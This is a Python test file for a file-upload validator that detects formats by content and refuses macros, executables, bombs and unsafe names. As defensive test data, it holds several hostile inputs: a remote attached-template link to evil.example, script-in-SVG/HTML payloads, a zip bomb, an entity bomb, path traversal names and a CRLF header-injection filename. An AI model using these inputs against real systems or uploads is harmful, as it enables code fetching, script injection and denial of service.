"""A file is what its content says; whatever could run, unpack without end or is not whole is refused."""

from __future__ import annotations

import contextlib
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linli.base.files import refusals, rules
from tests.base.files import samples

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
TEMPLATE = (
    f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="1" Type="{ATTACHED}" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
).encode()


class TestFormatOf:
    @pytest.mark.parametrize(
        ("data", "found"),
        [
            (samples.photo("JPEG"), rules.JPEG),
            (samples.photo("PNG"), rules.PNG),
            (samples.photo("GIF"), rules.GIF),
            (samples.photo("WEBP"), rules.WEBP),
            (samples.pdf(), rules.PDF),
            (samples.office(), rules.DOCX),
            (samples.office(samples.XLSX_MAIN), rules.XLSX),
            ("楼下井盖坏了\r\n请来看看".encode(), rules.TXT),
            ("楼下井盖坏了，请来看看".encode("gb18030"), rules.TXT),
            ("\ufeff井盖".encode(), rules.TXT),
        ],
    )
    def test_goes_by_the_content(self, data: bytes, found: rules.Format) -> None:
        assert rules.format_of(data) is found

    @pytest.mark.parametrize(
        "data",
        [
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"\xef\xbb\xbf  <?xml version='1.0'?><svg/>",
            b"<!DOCTYPE html><script>alert(1)</script>",
            b"\n\n<html>",
            b"MZ\x90\x00\x03\x00\x00\x00",
            b"\x7fELF\x02\x01\x01\x00",
            b"#!/bin/sh\x00",
            b"Rar!\x1a\x07\x00",
            b"   \n\t ",
            bytes(range(256)) * 4,
            b"BM" + bytes(60),
        ],
    )
    def test_refuses_what_is_neither_photo_nor_paper(self, data: bytes) -> None:
        with pytest.raises(refusals.FileKindRefused):
            rules.format_of(data)

    def test_refuses_nothing(self) -> None:
        with pytest.raises(refusals.FileEmpty):
            rules.format_of(b"")

    def test_refuses_the_huge(self) -> None:
        with pytest.raises(refusals.FileTooLarge) as refused:
            rules.format_of(b"\xff\xd8\xff" + bytes(rules.MAX_PHOTO_BYTES))
        assert refused.value.data == {"most_mb": 25}
        with pytest.raises(refusals.FileTooLarge):
            rules.format_of(samples.pdf()[:9] + bytes(rules.MAX_PAPER_BYTES) + b"%%EOF")

    def test_a_plain_zip_is_no_office_file(self) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("a.exe", b"MZ")
        with pytest.raises(refusals.FileKindRefused):
            rules.format_of(out.getvalue())

    def test_an_office_file_of_another_kind_is_refused(self) -> None:
        with pytest.raises(refusals.FileKindRefused):
            rules.format_of(samples.office(f"{samples.OOXML}presentationml.presentation.main+xml"))

    @pytest.mark.parametrize(
        "data",
        [
            samples.office("application/vnd.ms-word.document.macroEnabled.main+xml"),
            samples.office(parts={"word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}),
            samples.office(parts={"xl/activeX/activeX1.bin": b"x"}),
            samples.office(parts={"word/_rels/settings.xml.rels": TEMPLATE}),
        ],
    )
    def test_refuses_code_in_office_files(self, data: bytes) -> None:
        with pytest.raises(refusals.FileHasMacros):
            rules.format_of(data)

    def test_refuses_a_zip_bomb(self) -> None:
        bomb = samples.office(parts={f"word/media/{n}": bytes(21 * rules.MEGABYTE) for n in range(10)})
        assert len(bomb) < rules.MEGABYTE
        with pytest.raises(refusals.FileUnpacksTooLarge):
            rules.format_of(bomb)

    def test_refuses_ten_thousand_entries(self) -> None:
        with pytest.raises(refusals.FileUnpacksTooLarge):
            rules.format_of(samples.office(parts={f"word/{n}": b"" for n in range(rules.MAX_ENTRIES)}))

    def test_refuses_an_entity_bomb(self) -> None:
        laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><Types>&b;</Types>'
        with pytest.raises(refusals.FileDamaged):
            rules.format_of(samples.office(types=laughs))

    def test_refuses_huge_content_types(self) -> None:
        with pytest.raises(refusals.FileUnpacksTooLarge):
            rules.format_of(samples.office(types="<Types>" + " " * 2 * rules.MEGABYTE + "</Types>"))

    @pytest.mark.parametrize(
        "data", [samples.pdf()[:30], samples.office()[:-30], samples.office()[:60] + bytes(400)]
    )
    def test_refuses_what_broke_off(self, data: bytes) -> None:
        with pytest.raises(refusals.FileDamaged):
            rules.format_of(data)

    def test_says_what_to_do_with_old_office_files_and_iphone_photos(self) -> None:
        with pytest.raises(refusals.OldOfficeFile):
            rules.format_of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100))
        with pytest.raises(refusals.PhotoFormatUnknown):
            rules.format_of(b"\x00\x00\x00\x18ftypavif" + bytes(100))

    @given(st.binary(max_size=400))
    def test_any_noise_is_refused_by_name_or_is_text(self, data: bytes) -> None:
        try:
            found = rules.format_of(data)
        except refusals.UnableToKeepFile:
            return
        assert found is rules.TXT or found.kind is rules.FileKind.PHOTO

    @given(st.integers(0, 10_000), st.integers(1, 255), st.integers(0, 2))
    def test_a_damaged_office_file_never_crashes(self, where: int, flip: int, which: int) -> None:
        data = bytearray((samples.office(), samples.office(samples.XLSX_MAIN), samples.pdf())[which])
        data[where % len(data)] ^= flip
        with contextlib.suppress(refusals.UnableToKeepFile):
            rules.format_of(bytes(data))


class TestCleanName:
    @pytest.mark.parametrize(
        ("given_name", "kept"),
        [
            ("报告.pdf", "报告.pdf"),
            ("报告.PDF", "报告.pdf"),
            ("照片.exe", "照片.pdf"),
            ("..\\..\\windows\\报告.docx", "报告.pdf"),
            ("/etc/passwd", "passwd.pdf"),
            ("", "file.pdf"),
            ("...", "file.pdf"),
            ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x=1.pdf"),
            ("fdp.\u202etxt.exe", "fdp.txt.pdf"),
            ("长" * 300, "长" * 80 + ".pdf"),
            ("v1.2 版本说明", "v1.2 版本说明.pdf"),
        ],
    )
    def test_is_safe_and_ends_as_the_content_asks(self, given_name: str, kept: str) -> None:
        assert rules.clean_name(given_name, "pdf") == kept

    @given(st.text(max_size=300))
    def test_never_holds_a_path_or_a_control(self, name: str) -> None:
        kept = rules.clean_name(name, "pdf")
        assert not set(kept) & set('/\\\r\n\x00"')
        assert kept.endswith(".pdf")
        assert not kept.startswith(".")
